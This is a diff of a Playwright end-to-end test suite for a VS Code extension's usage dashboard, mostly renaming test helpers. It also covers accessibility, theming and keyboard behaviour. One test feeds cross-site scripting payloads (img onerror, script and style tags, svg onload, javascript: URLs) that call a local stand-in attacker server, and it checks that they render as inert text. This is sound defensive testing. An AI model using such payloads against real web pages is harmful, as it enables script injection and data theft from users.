@@ -3,12 +3,12 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { AxeBuilder } from '@axe-core/playwright';
 import type { FrameLocator } from 'playwright-core';
-import { choose, chord, readAnswer, see } from '../../scripts/demo/driver.mjs';
+import { choose, pressChord, readAnswer, see } from '../../scripts/demo/driver.mjs';
 import type { LedgerRow } from '../../src/ledger/common/ledgerRow';
 import { ledgerFiles, sampleRows } from '../support/ledgerRows';
-import { useScene } from './support/scene';
-import { until } from './support/screen';
-import { startTrap } from './support/trap';
+import { startAttackerServer } from './support/attackerServer';
+import { useFixture } from './support/fixture';
+import { waitUntil } from './support/screen';
 
 const themes = [
   { id: 'light', name: 'Light Modern', file: 'vs' },
@@ -17,17 +17,17 @@ const themes = [
 ];
 
 describe('the dashboard, in the packaged extension', () => {
-  const scene = useScene();
+  const fixture = useFixture();
   const complaints: string[] = [];
 
   before(() => {
-    scene.page.on('console', (message) => {
+    fixture.page.on('console', (message) => {
       if (/content security policy/i.test(message.text())) complaints.push(message.text());
     });
   });
 
-  const dataFile = (...names: string[]): string => path.join(scene.journey.dataDir, 'data', 'User', ...names);
-  const frame = (): FrameLocator => scene.page.frameLocator('iframe.webview').frameLocator('#active-frame');
+  const dataFile = (...names: string[]): string => path.join(fixture.workbench.dataDir, 'data', 'User', ...names);
+  const frame = (): FrameLocator => fixture.page.frameLocator('iframe.webview').frameLocator('#active-frame');
 
   function writeLedger(rows: readonly LedgerRow[], rest = ''): void {
     const folder = dataFile('globalStorage', 'quillet.quillet', 'ledger');
@@ -38,20 +38,20 @@ describe('the dashboard, in the packaged extension', () => {
 
   /** Opens the dashboard on a ledger with these rows. */
   async function open(rows: readonly LedgerRow[], rest = ''): Promise<FrameLocator> {
-    await scene.journey.runCommand('View: Close All Editors');
-    await scene.page.locator('iframe.webview').first().waitFor({ state: 'detached' });
+    await fixture.workbench.runCommand('View: Close All Editors');
+    await fixture.page.locator('iframe.webview').first().waitFor({ state: 'detached' });
     writeLedger(rows, rest);
-    await scene.journey.runCommand('Quillet: Show Usage');
+    await fixture.workbench.runCommand('Quillet: Show Usage');
     await see(frame().locator('table.runs tbody tr'), 'a run in the dashboard');
     await frame().locator('.progress').waitFor({ state: 'hidden' });
     return frame();
   }
 
   async function useTheme({ name, file }: (typeof themes)[number]): Promise<void> {
-    const { page } = scene;
-    await scene.journey.runCommand('Preferences: Color Theme');
+    const { page } = fixture;
+    await fixture.workbench.runCommand('Preferences: Color Theme');
     await choose(page, name);
-    await until('the theme is there', async () => (await page.locator(`.monaco-workbench.${file}`).count()) > 0);
+    await waitUntil('the theme is there', async () => (await page.locator(`.monaco-workbench.${file}`).count()) > 0);
   }
 
   it('can be read in light, dark and high contrast, and axe finds nothing', async () => {
@@ -60,9 +60,9 @@ describe('the dashboard, in the packaged extension', () => {
     for (const theme of themes) {
       await useTheme(theme);
       await page.locator('canvas').first().waitFor();
-      await scene.page.waitForTimeout(300);
-      await scene.journey.screenshot(`usage-${theme.id}`);
-      const { violations } = await new AxeBuilder({ page: scene.page })
+      await fixture.page.waitForTimeout(300);
+      await fixture.workbench.screenshot(`usage-${theme.id}`);
+      const { violations } = await new AxeBuilder({ page: fixture.page })
         .include(['iframe.webview', '#active-frame', 'body'])
         .analyze();
       assert.deepEqual(
@@ -71,30 +71,30 @@ describe('the dashboard, in the packaged extension', () => {
       );
     }
     await page.locator('.runs').scrollIntoViewIfNeeded();
-    await scene.journey.screenshot('usage-runs');
-    await scene.journey.runCommand('View: Close Primary Side Bar');
-    await scene.page.setViewportSize({ width: 500, height: 900 });
-    await scene.page.waitForTimeout(500);
-    await scene.journey.screenshot('usage-narrow-runs');
+    await fixture.workbench.screenshot('usage-runs');
+    await fixture.workbench.runCommand('View: Close Primary Side Bar');
+    await fixture.page.setViewportSize({ width: 500, height: 900 });
+    await fixture.page.waitForTimeout(500);
+    await fixture.workbench.screenshot('usage-narrow-runs');
     await page.locator('h1').scrollIntoViewIfNeeded();
-    await scene.page.waitForTimeout(500);
-    await scene.journey.screenshot('usage-narrow');
+    await fixture.page.waitForTimeout(500);
+    await fixture.workbench.screenshot('usage-narrow');
     const isWider = await page.locator('html').evaluate((root) => root.scrollWidth > root.clientWidth);
     assert.equal(isWider, false, 'the page itself is not scrolled sideways');
-    await scene.page.setViewportSize({ width: 1400, height: 900 });
-    await scene.journey.runCommand('View: Show Explorer');
+    await fixture.page.setViewportSize({ width: 1400, height: 900 });
+    await fixture.workbench.runCommand('View: Show Explorer');
     assert.deepEqual(complaints, []);
   });
 
   it('R32, E11: shows names that mean harm as text, and asks nobody', async () => {
-    const trap = await startTrap();
+    const attacker = await startAttackerServer();
     const names = [
-      `<img src=${trap.origin}/x onerror=fetch('${trap.origin}/y')>`,
-      `</script><script>fetch('${trap.origin}/z')</script>`,
+      `<img src=${attacker.origin}/x onerror=fetch('${attacker.origin}/y')>`,
+      `</script><script>fetch('${attacker.origin}/z')</script>`,
       '${7*7}',
       'a\u2028b',
-      `<style>@import '${trap.origin}/s'</style><svg onload=alert(1)>`,
-      `javascript:fetch('${trap.origin}/j')`,
+      `<style>@import '${attacker.origin}/s'</style><svg onload=alert(1)>`,
+      `javascript:fetch('${attacker.origin}/j')`,
     ];
     const rows = sampleRows(names.length, new Date()).map((row, index): LedgerRow => {
       const name = names[index] ?? '';
@@ -118,21 +118,21 @@ describe('the dashboard, in the packaged extension', () => {
     );
     const live = page.locator('main').locator('img, script, style, svg, iframe, a, [onerror], [onload]');
     assert.equal(await live.count(), 0);
-    await scene.journey.screenshot('usage-harm');
-    assert.deepEqual(trap.caught, []);
+    await fixture.workbench.screenshot('usage-harm');
+    assert.deepEqual(attacker.requests, []);
     assert.deepEqual(complaints, []);
-    await trap.close();
+    await attacker.close();
   });
 
   it('is used by keyboard, and follows the runs without losing the place', async () => {
-    const { page: window } = scene;
+    const { page: window } = fixture;
     const page = await open(sampleRows(180, new Date()));
-    await scene.select('greet.ts', 1, 1);
-    await scene.journey.runCommand('View: Split Editor Right');
-    await scene.journey.runCommand('Quillet: Show Usage');
+    await fixture.select('greet.ts', 1, 1);
+    await fixture.workbench.runCommand('View: Split Editor Right');
+    await fixture.workbench.runCommand('Quillet: Show Usage');
     await see(page.locator('table.runs tbody tr'), 'the dashboard beside the file');
-    await scene.journey.runCommand('View: Focus Right Editor Group');
-    await chord(window, 'g');
+    await fixture.workbench.runCommand('View: Focus Right Editor Group');
+    await pressChord(window, 'g');
     await readAnswer(window);
     const card = page.locator('.cards div', { hasText: 'Requests' }).locator('.value');
     await see(card.filter({ hasText: /^181$/ }), 'the run that has just ended');
@@ -143,9 +143,9 @@ describe('the dashboard, in the packaged extension', () => {
     await see(page.locator('.pager', { hasText: '51–100 of 181' }), 'the second page');
     assert.ok(await hasFocus(page, 'Older'), 'the button keeps the focus');
     const top = await page.locator('html').evaluate((root) => root.scrollTop);
-    await scene.journey.screenshot('usage-keyboard');
-    await scene.journey.runCommand('View: Focus Right Editor Group');
-    await scene.journey.runCommand('Quillet: Repeat Last Prompt');
+    await fixture.workbench.screenshot('usage-keyboard');
+    await fixture.workbench.runCommand('View: Focus Right Editor Group');
+    await fixture.workbench.runCommand('Quillet: Repeat Last Prompt');
     await see(card.filter({ hasText: /^182$/ }), 'one more run');
     await see(page.locator('.pager', { hasText: '51–100 of 182' }), 'the same page');
     assert.equal(await page.locator('html').evaluate((root) => root.scrollTop), top);
@@ -156,14 +156,14 @@ describe('the dashboard, in the packaged extension', () => {
     await page.getByRole('button', { name: 'Older' }).click();
     await see(page.locator('.pager', { hasText: '51–100 of 180' }), 'the second page');
     // By a command, as users do it: then VS Code writes down what was open first.
-    await scene.journey.runCommand('Developer: Reload Window');
+    await fixture.workbench.runCommand('Developer: Reload Window');
     await see(
       frame().locator('.pager', { hasText: '51–100 of 180' }),
       'the same page, in the window that was loaded anew',
     );
-    await scene.journey.screenshot('usage-reloaded');
-    await scene.journey.runCommand('Quillet: Show Usage');
-    assert.equal(await scene.page.locator('.tab', { hasText: 'Quillet: Usage' }).count(), 1);
+    await fixture.workbench.screenshot('usage-reloaded');
+    await fixture.workbench.runCommand('Quillet: Show Usage');
+    assert.equal(await fixture.page.locator('.tab', { hasText: 'Quillet: Usage' }).count(), 1);
   });
 });
 
